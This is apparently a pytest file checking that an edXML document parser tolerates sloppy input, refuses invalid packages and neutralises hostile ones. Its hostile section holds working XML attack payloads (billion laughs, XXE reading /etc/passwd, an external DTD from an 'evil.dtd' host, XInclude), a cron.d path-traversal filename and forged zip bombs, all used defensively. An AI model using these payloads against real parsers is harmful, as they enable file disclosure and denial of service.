"""parse(): liberal where nothing is at stake, strict where it matters, harmless when hostile."""

from __future__ import annotations

import datetime as dt
import io
import os
import re
import struct
import time
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from tinhso.exchange import edxml
from tinhso.exchange.tests.edxml.support import (
    NS,
    VN,
    document,
    status,
    with_encoded,
    zipped,
)


def _codes(problems: list[edxml.Problem]) -> list[tuple[str, str]]:
    return [(p.code, p.field) for p in problems]


def _refused(data: bytes, code: str, limits: edxml.Limits | None = None) -> edxml.EdxmlRefused:
    with pytest.raises(edxml.EdxmlRefused) as raised:
        edxml.parse(data, limits=limits or edxml.Limits())
    assert raised.value.code == code, raised.value
    return raised.value


@contextmanager
def time_box(seconds: float) -> Iterator[None]:
    start = time.monotonic()
    yield
    assert time.monotonic() - start < seconds


# --- Liberal --------------------------------------------------------------------------------


def test_a_date_written_dd_mm_yyyy_is_read_with_a_warning() -> None:
    data = edxml.build(document()).replace(
        b"<edXML:PromulgationDate>2025/11/03<", b"<edXML:PromulgationDate>03/11/2025<"
    )
    parsed = edxml.parse(data)
    assert parsed.package.promulgation_date == dt.date(2025, 11, 3)  # type: ignore[union-attr]
    assert _codes(parsed.warnings) == [("date_format", "PromulgationInfo/PromulgationDate")]


def test_an_impossible_trace_date_is_warned_about() -> None:
    data = edxml.build(document()).replace(b"2025/11/03 08:30:00", b"2014/02/30 08:30:00")
    parsed = edxml.parse(data)
    assert isinstance(parsed.package, edxml.DocumentPackage)
    assert parsed.package.traces == (edxml.Trace("000.00.12.H57", None),)
    assert _codes(parsed.warnings) == [("bad_date", "TraceHeader/Timestamp")]


def test_an_impossible_date_in_a_business_document_id_is_kept_as_text() -> None:
    identifier = "000.00.00.G22,2014/02/30,7806/VPCP-TTĐT"
    pkg = document(business=edxml.Business(business_type=1, document_id=identifier))
    parsed = edxml.parse(edxml.build(pkg))
    assert parsed.package == pkg
    assert _codes(parsed.warnings) == [("bad_date", "Bussiness/DocumentId")]


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("2025-11-03T01:30:00Z", dt.datetime(2025, 11, 3, 8, 30, tzinfo=VN)),
        ("2025-11-03 08:30:00", dt.datetime(2025, 11, 3, 8, 30, tzinfo=VN)),
        ("03/11/2025 08:30:00", dt.datetime(2025, 11, 3, 8, 30, tzinfo=VN)),
        ("2025-11-03T08:30:00+07:00", dt.datetime(2025, 11, 3, 8, 30, tzinfo=VN)),
    ],
)
def test_other_timestamp_formats_are_read_with_a_warning(
    written: str, expected: dt.datetime
) -> None:
    data = edxml.build(status()).replace(b"2025/11/03 09:15:02", written.encode())
    parsed = edxml.parse(data)
    assert parsed.package.timestamp == expected  # type: ignore[union-attr]
    assert _codes(parsed.warnings) == [("date_format", "Timestamp")]


def test_garbage_in_optional_fields_gives_warnings_not_refusal() -> None:
    data = (
        edxml.build(document())
        .replace(b"<edXML:Priority>1<", b"<edXML:Priority>cao<")
        .replace(b"<edXML:DueDate>2025/11/20<", b"<edXML:DueDate>s\xe1\xbb\x9bm<")
        .replace(b"<edXML:Subject>", b"<!-- ghi ch\xc3\xba --><edXML:Subject>")
    )
    parsed = edxml.parse(data)
    assert isinstance(parsed.package, edxml.DocumentPackage)
    assert parsed.package.priority == 0
    assert parsed.package.due_date is None
    assert parsed.package.subject == document().subject
    assert _codes(parsed.warnings) == [
        ("bad_number", "OtherInfo/Priority"),
        ("bad_date", "DueDate"),
    ]


def test_minimal_document_with_only_required_fields() -> None:
    data = f"""<?xml version="1.0" encoding="UTF-8"?>
<edXML xmlns="{NS}"><edXML:edXMLEnvelope xmlns:edXML="{NS}"><edXML:edXMLHeader>
<edXML:MessageHeader>
 <edXML:From><edXML:OrganId>A</edXML:OrganId></edXML:From>
 <edXML:To><edXML:OrganId>B</edXML:OrganId></edXML:To>
 <edXML:Code><edXML:CodeNumber>1</edXML:CodeNumber><edXML:CodeNotation>X</edXML:CodeNotation></edXML:Code>
 <edXML:PromulgationInfo><edXML:PromulgationDate>2025/11/03</edXML:PromulgationDate></edXML:PromulgationInfo>
 <edXML:Subject>Trích yếu</edXML:Subject>
</edXML:MessageHeader></edXML:edXMLHeader></edXML:edXMLEnvelope></edXML>""".encode()
    parsed = edxml.parse(data)
    assert parsed.package == edxml.DocumentPackage(
        sender=edxml.Organ("A"),
        recipients=(edxml.Organ("B"),),
        code_number="1",
        code_notation="X",
        promulgation_place="",
        promulgation_date=dt.date(2025, 11, 3),
        type_code=0,
        type_detail=0,
        type_name="",
        subject="Trích yếu",
    )
    assert _codes(parsed.warnings) == [("missing_document_id", "DocumentId")]
    assert parsed.package.document_id == "A,2025/11/03,1/X"


def test_children_without_the_prefix_are_accepted_with_a_warning() -> None:
    pkg = document()
    data = edxml.build(pkg)
    # the envelope and everything in it in no namespace at all
    data = data.replace(f' xmlns:edXML="{NS}"'.encode(), b"", 1)
    data = data.replace(b"<edXML:edXMLEnvelope>", b'<edXMLEnvelope xmlns="">')
    data = re.sub(rb"<(/?)edXML:(?!ContentTransferEncoded)", rb"<\1", data)
    parsed = edxml.parse(data)
    assert parsed.package == pkg
    assert _codes(parsed.warnings) == [("no_namespace", "edXMLEnvelope")]


def test_missing_promulgation_date_is_taken_from_the_document_id() -> None:
    data = edxml.build(document()).replace(
        b"<edXML:PromulgationDate>2025/11/03</edXML:PromulgationDate>", b""
    )
    parsed = edxml.parse(data)
    assert parsed.package.promulgation_date == dt.date(2025, 11, 3)  # type: ignore[union-attr]
    assert _codes(parsed.warnings) == [
        ("date_from_document_id", "PromulgationInfo/PromulgationDate")
    ]


def test_attachment_named_with_a_path_is_renamed() -> None:
    data = edxml.build(document()).replace(b"cong-van-125.pdf", b"../../etc/cron.d/x.pdf")
    parsed = edxml.parse(data)
    assert isinstance(parsed.package, edxml.DocumentPackage)
    assert parsed.package.attachments[0].name == "x.pdf"
    assert ("bad_name", "Attachment/AttachmentName") in _codes(parsed.warnings)


def test_an_attachment_listed_but_not_carried_is_warned_about() -> None:
    data = re.sub(
        rb"<AttachmentEncoded>.*</AttachmentEncoded>", b"", edxml.build(document()), flags=re.S
    )
    parsed = edxml.parse(data)
    assert parsed.package.attachments == ()  # type: ignore[union-attr]
    assert _codes(parsed.warnings) == [("attachment_missing", "edXMLManifest/Reference")]


def test_an_unzipped_attachment_is_taken_as_is() -> None:
    data = with_encoded(edxml.build(document()), b"%PDF-raw", content_type="application/pdf")
    parsed = edxml.parse(data)
    (attachment,) = parsed.package.attachments  # type: ignore[union-attr]
    assert (attachment.data, attachment.content_type) == (b"%PDF-raw", "application/pdf")
    assert parsed.warnings == []


def test_a_zip_that_is_not_one_is_kept_with_a_warning() -> None:
    parsed = edxml.parse(with_encoded(edxml.build(document()), b"%PDF-raw"))
    assert parsed.package.attachments[0].data == b"%PDF-raw"  # type: ignore[union-attr]
    assert _codes(parsed.warnings) == [("not_zipped", "Attachment/ContentType")]


def test_a_zip_of_several_files_gives_one_attachment_each() -> None:
    payload = zipped([("a.pdf", b"A" * 10), ("sub/b.docx", b"B" * 20)])
    parsed = edxml.parse(with_encoded(edxml.build(document()), payload))
    attachments = parsed.package.attachments  # type: ignore[union-attr]
    assert [(a.name, a.data, a.content_id, a.description) for a in attachments] == [
        ("a.pdf", b"A" * 10, "cid:1", "Công văn"),
        ("b.docx", b"B" * 20, "cid:1-2", "Công văn"),
    ]
    assert attachments[1].content_type.endswith("wordprocessingml.document")
    assert ("zip_several_entries", "Attachment") in _codes(parsed.warnings)


def test_a_large_attachment_over_libxml2s_text_limit_is_read() -> None:
    # given: 9 MB of incompressible data, 12 MB of base64 in one text node (> 10 MB)
    data = os.urandom(9 * 1024 * 1024)
    pkg = document(attachments=(edxml.Attachment("lon.pdf", "application/pdf", data, "", "cid:1"),))
    parsed = edxml.parse(edxml.build(pkg))
    assert parsed.package == pkg


# --- Strict ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("remove", "field"),
    [
        (rb"<edXML:From>.*?</edXML:From>", "From/OrganId"),
        (rb"<edXML:To>.*?</edXML:To>", "To"),
        (rb"<edXML:Code>.*?</edXML:Code>", "Code/CodeNumber"),
        (rb"<edXML:Subject>.*?</edXML:Subject>", "Subject"),
    ],
)
def test_missing_required_fields_are_refused(remove: bytes, field: str) -> None:
    data = edxml.build(document(document_id="X,notadate,nothing"))
    refused = _refused(re.sub(remove, b"", data, count=1, flags=re.S), "missing_field")
    assert refused.detail == field


def test_missing_date_without_document_id_is_refused() -> None:
    data = edxml.build(document(document_id="X,notadate,1/A"))
    data = re.sub(rb"<edXML:PromulgationDate>.*?</edXML:PromulgationDate>", b"", data)
    assert _refused(data, "missing_field").detail == "PromulgationInfo/PromulgationDate"


def test_status_without_response_for_is_refused() -> None:
    data = re.sub(
        rb"<edXML:ResponseFor>.*?</edXML:ResponseFor>", b"", edxml.build(status()), flags=re.S
    )
    assert _refused(data, "missing_field").detail == "ResponseFor"


@pytest.mark.parametrize(
    "data",
    [b"", b"hello", b"<edXML", b"\xff\xfe\x00garbage", b"<a></b>", b"<a>&undefined;</a>"],
)
def test_not_xml(data: bytes) -> None:
    refused = _refused(data, "not_xml")
    assert "XML" in str(refused)


@pytest.mark.parametrize(
    "data",
    [
        b"<edXML/>",
        b'<edXML xmlns="http://example.com/other"/>',
        f'<other xmlns="{NS}"/>'.encode(),
        f'<edXML xmlns="{NS}"/>'.encode(),
        f'<edXML xmlns="{NS}"><edXMLEnvelope/></edXML>'.encode(),
        f'<edXML xmlns="{NS}"><edXMLEnvelope><edXMLHeader/></edXMLEnvelope></edXML>'.encode(),
    ],
)
def test_not_edxml(data: bytes) -> None:
    _refused(data, "not_edxml")


def test_size_is_checked_before_parsing() -> None:
    limits = edxml.Limits(max_package_bytes=1000)
    # not even XML: refused for its size, so it was never parsed
    _refused(b"x" * 1001, "too_large", limits)
    edxml.parse(edxml.build(status()), limits=edxml.Limits(max_package_bytes=5000))


def test_too_many_attachments() -> None:
    pkg = document(
        attachments=tuple(
            edxml.Attachment(f"{n}.pdf", "application/pdf", b"x", "", f"cid:{n}")
            for n in range(1, 5)
        )
    )
    data = edxml.build(pkg)
    assert edxml.parse(data, limits=edxml.Limits(max_attachments=4)).package == pkg
    _refused(data, "too_large", edxml.Limits(max_attachments=3))


def test_attachment_over_its_limit() -> None:
    pkg = document(
        attachments=(edxml.Attachment("a.pdf", "application/pdf", os.urandom(5000), "", "cid:1"),)
    )
    data = edxml.build(pkg)
    edxml.parse(data, limits=edxml.Limits(max_attachment_bytes=6000))
    # the zip itself is over the limit: refused before decoding
    _refused(data, "too_large", edxml.Limits(max_attachment_bytes=4000))
    # the zip fits, its content does not
    compressible = edxml.build(
        document(attachments=(edxml.Attachment("a.txt", "text/plain", b"a" * 5000, "", "cid:1"),))
    )
    _refused(compressible, "too_large", edxml.Limits(max_attachment_bytes=4000))


def test_total_of_attachments_over_its_limit() -> None:
    pkg = document(
        attachments=tuple(
            edxml.Attachment(
                f"{n}.bin", "application/octet-stream", os.urandom(3000), "", f"cid:{n}"
            )
            for n in range(1, 4)
        )
    )
    data = edxml.build(pkg)
    edxml.parse(data, limits=edxml.Limits(max_total_attachment_bytes=9000))
    _refused(data, "too_large", edxml.Limits(max_total_attachment_bytes=8999))


@pytest.mark.parametrize("payload", ["not base64 !!", "QUJDRA=", "ễễễễ", "QUJD&#0;"])
def test_bad_base64(payload: str) -> None:
    data = re.sub(
        rb"(<edXML:ContentTransferEncoded[^>]*>)[^<]*",
        lambda match: match.group(1) + payload.encode(),
        edxml.build(document()),
    )
    with pytest.raises(edxml.EdxmlRefused) as raised:
        edxml.parse(data)
    # &#0; is not even allowed in XML
    assert raised.value.code == ("not_xml" if "&#0;" in payload else "bad_attachment")


# --- Hostile --------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE edXML [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016"><edXMLEnvelope><edXMLHeader><MessageHeader>
<StatusCode>&lol9;</StatusCode></MessageHeader></edXMLHeader></edXMLEnvelope></edXML>"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016"><edXMLEnvelope><edXMLHeader><MessageHeader>
<From><OrganId>&xxe;</OrganId></From><StatusCode>01</StatusCode></MessageHeader></edXMLHeader></edXMLEnvelope></edXML>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE edXML SYSTEM "http://192.0.2.1/evil.dtd">
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE edXML [<!ENTITY % remote SYSTEM "http://192.0.2.1/x.dtd"> %remote;]>
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016"/>"""

HOSTILE = {
    "billion_laughs": BILLION_LAUGHS,
    "xxe_file": XXE_FILE,
    "external_dtd": EXTERNAL_DTD,
    "parameter_entity": PARAMETER_ENTITY,
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_dtds_are_refused(name: str) -> None:
    # 192.0.2.1 (TEST-NET-1) is never reachable: a fetch would hang the test, not pass it
    with time_box(2):
        refused = _refused(HOSTILE[name], "forbidden_dtd")
    assert "DOCTYPE" in str(refused)
    with time_box(2):
        check = edxml.verify(HOSTILE[name], trust_roots=[], at=dt.datetime.now(dt.UTC))
    assert (check.present, check.valid, [p.code for p in check.reasons]) == (
        False,
        False,
        ["forbidden_dtd"],
    )
    with pytest.raises(edxml.EdxmlRefused):
        edxml.sign(HOSTILE[name], sign_raw=lambda data: b"", certificates=[_any_certificate()])


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_dtds_are_refused_in_utf16_too(name: str) -> None:
    # the byte scan cannot see a UTF-16 DOCTYPE: the parsed tree is checked as well, and
    # nothing was expanded or fetched on the way
    data = HOSTILE[name].replace(
        b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>'
    )
    with time_box(2):
        _refused(data.decode().encode("utf-16"), "forbidden_dtd")


def test_entities_are_never_expanded_even_below_the_checks() -> None:
    from lxml import etree

    from tinhso.exchange.edxml.xmlsafe import _parser

    root = etree.fromstring(XXE_FILE, _parser(huge=False))
    assert "root:" not in etree.tostring(root, encoding="unicode")
    with time_box(2):
        try:
            root = etree.fromstring(BILLION_LAUGHS, _parser(huge=True))
        except etree.XMLSyntaxError as error:  # libxml2's own amplification guard
            assert "amplification" in str(error)
        else:
            assert len(etree.tostring(root)) < 10_000


def test_xinclude_is_not_processed() -> None:
    data = edxml.build(status(description="MARK")).replace(
        b"MARK",
        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    )
    parsed = edxml.parse(data)
    assert "root:" not in parsed.package.description  # type: ignore[union-attr]


def test_deep_nesting_is_refused_quickly() -> None:
    depth = 100_000
    data = f'<edXML xmlns="{NS}">'.encode() + b"<a>" * depth + b"</a>" * depth + b"</edXML>"
    with time_box(2):
        _refused(data, "not_xml")


@pytest.mark.parametrize("megabytes", [30, 50])
def test_zip_bomb_is_refused(megabytes: int) -> None:
    # given: zeros zipped ~1000:1, within and beyond the attachment limit (40 MiB)
    bomb = zipped([("bom.pdf", bytes(megabytes * 1024 * 1024))])
    assert len(bomb) < 100_000
    data = with_encoded(edxml.build(document()), bomb)
    with time_box(5):
        refused = _refused(data, "bad_attachment")
    assert "bom nén" in refused.message


def test_small_highly_compressible_files_are_fine() -> None:
    # a page of spaces compresses ~500:1; below 1 MiB unzipped the ratio is not held against it
    pkg = document(
        attachments=(edxml.Attachment("trang.txt", "text/plain", b" " * 500_000, "", "cid:1"),)
    )
    assert edxml.parse(edxml.build(pkg)).package == pkg


def test_zip_with_forged_entry_count_is_refused() -> None:
    payload = bytearray(zipped([("a.pdf", b"x")]))
    end = payload.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", payload, end + 8, 60000, 60000)
    data = with_encoded(edxml.build(document()), bytes(payload))
    _refused(data, "bad_attachment")


def test_zip_entry_lying_about_its_size_is_stopped() -> None:
    # given: the directory says 10 bytes, the stream holds 3 MB of zeros (ratio 1000)
    payload = bytearray(zipped([("a.pdf", bytes(3 * 1024 * 1024))]))
    central = payload.rfind(b"PK\x01\x02")
    struct.pack_into("<I", payload, central + 24, 10)  # uncompressed size in the directory
    local = payload.find(b"PK\x03\x04")
    struct.pack_into("<I", payload, local + 22, 10)
    data = with_encoded(edxml.build(document()), bytes(payload))
    with pytest.raises(edxml.EdxmlRefused) as raised:
        edxml.parse(data)
    assert raised.value.code == "bad_attachment"


def test_encrypted_empty_and_corrupt_zips_are_refused() -> None:
    encrypted = bytearray(zipped([("a.pdf", b"secret")]))
    struct.pack_into("<H", encrypted, encrypted.find(b"PK\x03\x04") + 6, 1)
    struct.pack_into("<H", encrypted, encrypted.rfind(b"PK\x01\x02") + 8, 1)
    empty = zipped([])
    directory_only = io.BytesIO()
    with zipfile.ZipFile(directory_only, "w") as archive:
        archive.writestr("thu-muc/", b"")
    corrupt = bytearray(zipped([("a.pdf", os.urandom(2000))]))
    corrupt[60:80] = bytes(20)
    truncated = zipped([("a.pdf", b"x" * 100)])[:-30]
    for payload in (bytes(encrypted), empty, directory_only.getvalue(), bytes(corrupt), truncated):
        _refused(with_encoded(edxml.build(document()), payload), "bad_attachment")


def _any_certificate() -> bytes:
    from tinhso.exchange.tests.edxml.support import make_credentials

    return make_credentials().certificate
